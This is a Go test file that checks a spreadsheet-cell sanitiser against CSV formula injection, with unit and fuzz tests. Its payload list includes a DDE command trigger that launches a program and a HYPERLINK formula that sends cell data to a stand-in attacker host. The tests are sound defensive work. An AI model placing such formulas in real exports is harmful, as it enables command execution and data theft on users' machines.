package reportrender

import (
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
)

// injectionPayloads are formula triggers from OWASP's CSV injection page and its variants.
var injectionPayloads = []string{
	"=cmd|' /C calc'!A0",
	"+1+1",
	"-2+3",
	"@SUM(1+1)",
	"\t=1",
	"\r=1",
	"\n=1",
	"\x00=1",
	" =1",
	"   @SUM(A1)",
	"\u00a0=1",
	"\u3000+1",
	"\u200b=1",
	"\ufeff=1",
	"＝1",
	"＋1",
	"－1",
	"＠SUM(1)",
	"﹦1",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
	"=1+2;=3",
	"-",
	"=",
	"=\"\"\"\"",
	"@",
	"\t",
}

func TestSafeCell(t *testing.T) {
	for _, s := range injectionPayloads {
		assert.Equal(t, "'"+s, SafeCell(s), "%q", s)
	}
	for _, s := range []string{"", "alice@example.com", "Login failed", "2026-03-29T01:00:00+01:00", "'=1", "a=b", "   ", " hello", "日本語", "10.0.0.1", "x-1"} {
		assert.Equal(t, s, SafeCell(s), "%q", s)
	}
}

func FuzzSafeCell(f *testing.F) {
	for _, s := range injectionPayloads {
		f.Add(s)
	}
	f.Add("plain")
	f.Add(" \u2003 x")
	f.Fuzz(func(t *testing.T, s string) {
		got := SafeCell(s)
		// The original is always recoverable: either untouched or behind one quote.
		if got != s && got != "'"+s {
			t.Fatalf("SafeCell(%q) = %q changes the text", s, got)
		}
		assertNoLeadingTrigger(t, got)
		// The renderers' own cell processing keeps the property.
		assertNoLeadingTrigger(t, csvText(got))
		if cell := csvCell(s); cell != csvText(got) {
			t.Fatalf("csvCell(%q) = %q, want %q", s, cell, csvText(got))
		}
		assertNoLeadingTrigger(t, truncateCell(got))
		if truncated := truncateCell(got); truncated != got {
			assert.True(t, strings.HasSuffix(truncated, TruncationMarker))
			assert.True(t, strings.HasPrefix(got, strings.TrimSuffix(truncated, TruncationMarker)))
		}
	})
}

// assertNoLeadingTrigger checks the property a spreadsheet cares about: after whitespace and
// invisible characters, the first character is not a trigger.
func assertNoLeadingTrigger(t *testing.T, s string) {
	t.Helper()
	trimmed := strings.TrimLeftFunc(s, func(r rune) bool { return isLeadingFiller(r) && !isTrigger(r) })
	if trimmed == "" {
		return
	}
	r, _ := utf8.DecodeRuneInString(trimmed)
	if isTrigger(r) {
		t.Fatalf("cell %q starts with trigger %q", s, r)
	}
}

func TestASCIIWithoutCR(t *testing.T) {
	assert.True(t, asciiWithoutCR(""))
	assert.True(t, asciiWithoutCR("plain ascii text that is longer than eight bytes\n"))
	for i := range 20 {
		for _, c := range []string{"\r", "é", "\x80", "\xff"} {
			s := strings.Repeat("a", i) + c + strings.Repeat("b", 20-i)
			assert.False(t, asciiWithoutCR(s), "%q", s)
		}
	}
}
